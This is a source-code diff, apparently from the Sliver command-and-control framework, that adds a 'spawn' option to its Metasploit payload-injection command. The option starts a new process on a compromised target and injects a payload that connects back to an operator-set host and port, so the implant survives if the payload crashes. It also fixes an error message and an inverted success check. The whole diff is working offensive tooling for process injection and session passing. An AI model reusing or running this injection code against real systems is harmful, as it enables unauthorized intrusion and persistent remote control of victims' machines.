@@ -22,6 +22,7 @@ import (
 	"context"
 	"fmt"
 
+	"github.com/kballard/go-shellquote"
 	"google.golang.org/protobuf/proto"
 
 	"github.com/spf13/cobra"
@@ -45,13 +46,14 @@ func MsfInjectCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []s
 	encoder, _ := cmd.Flags().GetString("encoder")
 	iterations, _ := cmd.Flags().GetInt("iterations")
 	pid, _ := cmd.Flags().GetInt("pid")
+	spawn, _ := cmd.Flags().GetString("spawn")
 
 	if lhost == "" {
 		con.PrintErrorf("Invalid lhost '%s', see `help %s`\n", lhost, consts.MsfInjectStr)
 		return
 	}
-	if pid == -1 {
-		con.PrintErrorf("Invalid pid '%s', see `help %s`\n", lhost, consts.MsfInjectStr)
+	if pid == -1 && spawn == "" {
+		con.PrintErrorf("Invalid pid '%d', see `help %s`\n", pid, consts.MsfInjectStr)
 		return
 	}
 	var goos string
@@ -64,11 +66,7 @@ func MsfInjectCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []s
 		goarch = beacon.Arch
 	}
 
-	ctrl := make(chan bool)
-	msg := fmt.Sprintf("Sending msf payload %s %s/%s -> %s:%d ...",
-		payloadName, goos, goarch, lhost, lport)
-	con.SpinUntil(msg, ctrl)
-	msfTask, err := con.Rpc.MsfRemote(context.Background(), &clientpb.MSFRemoteReq{
+	msfReq := &clientpb.MSFRemoteReq{
 		Request:    con.ActiveTarget.Request(cmd),
 		Payload:    payloadName,
 		LHost:      lhost,
@@ -76,7 +74,19 @@ func MsfInjectCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []s
 		Encoder:    encoder,
 		Iterations: int32(iterations),
 		PID:        uint32(pid),
-	})
+	}
+	if spawn != "" {
+		// Session passing, the payload runs in a new process so the implant isn't
+		// affected if the payload crashes
+		spawnMsfRemote(spawn, msfReq, con)
+		return
+	}
+
+	ctrl := make(chan bool)
+	msg := fmt.Sprintf("Sending msf payload %s %s/%s -> %s:%d ...",
+		payloadName, goos, goarch, lhost, lport)
+	con.SpinUntil(msg, ctrl)
+	msfTask, err := con.Rpc.MsfRemote(context.Background(), msfReq)
 	ctrl <- true
 	<-ctrl
 	if err != nil {
@@ -99,15 +109,74 @@ func MsfInjectCmd(cmd *cobra.Command, con *console.SliverConsoleClient, args []s
 	}
 }
 
+// spawnMsfRemote - Start the process and inject the payload into it, for beacons the
+// payload is tasked once the process has been started
+func spawnMsfRemote(process string, msfReq *clientpb.MSFRemoteReq, con *console.SliverConsoleClient) {
+	processArgs, err := shellquote.Split(process)
+	if err != nil || len(processArgs) == 0 {
+		con.PrintErrorf("Invalid process '%s'\n", process)
+		return
+	}
+	spawned, err := con.Rpc.Execute(context.Background(), &sliverpb.ExecuteReq{
+		Path:    processArgs[0],
+		Args:    processArgs[1:],
+		Output:  false,
+		Request: msfReq.Request,
+	})
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	inject := func(spawned *sliverpb.Execute) {
+		if spawned.Response != nil && spawned.Response.Err != "" {
+			con.PrintErrorf("Failed to start %s: %s\n", processArgs[0], spawned.Response.Err)
+			return
+		}
+		con.PrintInfof("Started %s (pid %d), injecting %s ...\n", processArgs[0], spawned.Pid, msfReq.Payload)
+		msfReq.PID = spawned.Pid
+		msfTask, err := con.Rpc.MsfRemote(context.Background(), msfReq)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		if msfTask.Response != nil && msfTask.Response.Async {
+			con.AddBeaconCallback(msfTask.Response.TaskID, func(task *clientpb.BeaconTask) {
+				err = proto.Unmarshal(task.Response, msfTask)
+				if err != nil {
+					con.PrintErrorf("Failed to decode response %s\n", err)
+					return
+				}
+				PrintMsfRemote(msfTask, con)
+			})
+			con.PrintAsyncResponse(msfTask.Response)
+		} else {
+			PrintMsfRemote(msfTask, con)
+		}
+	}
+	if spawned.Response != nil && spawned.Response.Async {
+		con.AddBeaconCallback(spawned.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, spawned)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			inject(spawned)
+		})
+		con.PrintAsyncResponse(spawned.Response)
+	} else {
+		inject(spawned)
+	}
+}
+
 // PrintMsfRemote - Print the results of the remote injection attempt
 func PrintMsfRemote(msfRemote *sliverpb.Task, con *console.SliverConsoleClient) {
 	if msfRemote.Response == nil {
 		con.PrintErrorf("Empty response from msf payload injection task")
 		return
 	}
-	if msfRemote.Response.Err != "" {
-		con.PrintInfof("Executed payload on target")
+	if msfRemote.Response.Err == "" {
+		con.PrintInfof("Executed payload on target\n")
 	} else {
-		con.PrintErrorf("Failed to inject payload: %s", msfRemote.Response.Err)
+		con.PrintErrorf("Failed to inject payload: %s\n", msfRemote.Response.Err)
 	}
 }